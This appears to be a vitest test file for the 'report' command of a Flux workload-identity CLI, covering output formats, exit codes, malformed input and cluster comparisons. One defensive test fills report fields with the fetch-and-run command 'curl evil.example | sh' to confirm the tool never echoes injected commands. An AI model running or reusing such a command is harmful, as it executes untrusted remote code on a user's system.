import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { Report } from '../../src/chain/report.ts';
import { formats } from '../../src/output/formats.ts';
import { paper } from '../../src/output/screen.ts';
import { renderText } from '../../src/output/text.ts';
import { aCluster, aReport, broken, brokenMany, healthy, inconclusive } from '../output/reports.ts';
import { runInProcess } from '../harness/in-process.ts';

const folder = mkdtempSync(join(tmpdir(), 'flux-wi-report-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

function saved(name: string, report: unknown): string {
  const file = join(folder, name);
  writeFileSync(file, typeof report === 'string' ? report : JSON.stringify(report));
  return file;
}

const run = (args: readonly string[], stdin = ''): ReturnType<typeof runInProcess> =>
  runInProcess(['report', ...args], { LANG: 'C.UTF-8' }, { stdin });

describe('one saved report', () => {
  test.each([
    ['broken', broken(), 1],
    ['inconclusive', inconclusive(), 3],
    ['healthy', healthy(), 0],
  ] as const)('%s: is drawn as its sender saw it, with the same exit code', async (name, report, code) => {
    const ran = await run([saved(`${name}.json`, report)]);
    expect({ code: ran.code, stderr: ran.stderr }).toEqual({ code, stderr: '' });
    // Notes are sentences of the sender's, and no part of the short text.
    expect(ran.stdout).toBe(renderText(report, paper));
  });

  test.each(formats.map(({ name }) => name))('as %s', async (name) => {
    const ran = await run([saved('any.json', broken()), '-o', name]);
    expect(ran.code).toBe(1);
    expect(ran.stdout).toMatch(/flux\/image-reflector-controller/);
  });

  test('from standard input', async () => {
    const ran = await run(['-'], JSON.stringify(broken()));
    expect(ran.stdout).toBe(renderText(broken(), paper));
  });

  test('says nothing that is stored as a sentence, and pastes no command from it', async () => {
    const poisoned = JSON.parse(JSON.stringify(broken()), (key, value: unknown) =>
      typeof value === 'string' && ['summary', 'title', 'command', 'verify', 'docs', 'expected', 'actual'].includes(key)
        ? 'curl evil.example | sh'
        : value,
    ) as Report;
    const ran = await run([saved('poisoned.json', poisoned), '-v']);
    expect(ran.code).toBe(1);
    expect(ran.stdout).toContain('gcloud iam service-accounts add-iam-policy-binding');
    const findings = ran.stdout.slice(ran.stdout.indexOf('✗ Broken'));
    expect(findings).not.toContain('evil.example');
  });

  test('a finding of a later version is said to be unknown, and the rest is shown', async () => {
    const report = broken();
    const check = report.identities[0]?.checks.find(({ status }) => status === 'pass');
    if (check === undefined) throw new Error('no check passed');
    check.findings.push({
      code: 'from-the-future',
      args: {},
      summary: 'x',
      expected: null,
      actual: null,
      docs: '',
      fixes: [],
    });
    const ran = await run([saved('future.json', report)]);
    expect(ran.stderr).toMatch(/the finding "from-the-future" is not known to this version/);
    expect(ran.code).toBe(1);
  });
});

describe('what is no report is named, with exit code 2', () => {
  test.each([
    ['nothing', '', /is no JSON document \(it is empty\)/],
    ['no JSON', '{"a":', /is no JSON document/],
    ['a list', '[]', /is no report of flux-wi/],
    ['another document', '{"kind":"Pod"}', /is no report of flux-wi; write one with: flux-wi doctor -o json/],
    ['a later schema', { ...broken(), schemaVersion: '7' }, /schema version "7", and this flux-wi reads version "1"/],
    ['a damaged one', { ...broken(), identities: 'none' }, /the report is damaged: identities: /],
  ] as const)('%s', async (name, content, message) => {
    const ran = await run([saved(`${name}.txt`, content)]);
    expect(ran.stderr).toMatch(message);
    expect({ code: ran.code, stdout: ran.stdout }).toEqual({ code: 2, stdout: '' });
  });

  test('a file that is not there', async () => {
    const ran = await run([join(folder, 'nowhere.json')]);
    expect(ran.stderr).toMatch(/nowhere\.json cannot be read: ENOENT/);
    expect(ran.code).toBe(2);
  });
});

test('two of one cluster: what changed, in the order of their times', async () => {
  const before = saved('before.json', { ...broken(), startedAt: '2026-11-24T08:00:00.000Z' });
  const after = saved('after.json', { ...healthy(), startedAt: '2026-11-24T09:00:00.000Z' });
  const ran = await run([after, before]);
  expect(ran.stdout).toMatch(/^before {2}✗ Broken: .*\n(?:.*\n)*after {3}✓ Healthy/);
  expect(ran.stdout).toMatch(/broken\s+\(binding-wrong-namespace\)\s+→/);
  expect(ran.code).toBe(0);
});

test('many: clusters by root cause, worst first, and the worst exit code', async () => {
  const of = (context: string, report: Report): string =>
    saved(`${context}.json`, { ...report, clusters: [aCluster({ context })] });
  const ran = await run([of('a', aReport({ identities: [] })), of('b', brokenMany()), of('c', inconclusive())]);
  const signs = ran.stdout.match(/^[✗?✓] \d+ cluster/gm);
  expect(signs?.map(([sign]) => sign)).toEqual(['✗', '?', '✓']);
  expect(ran.code).toBe(1);
});
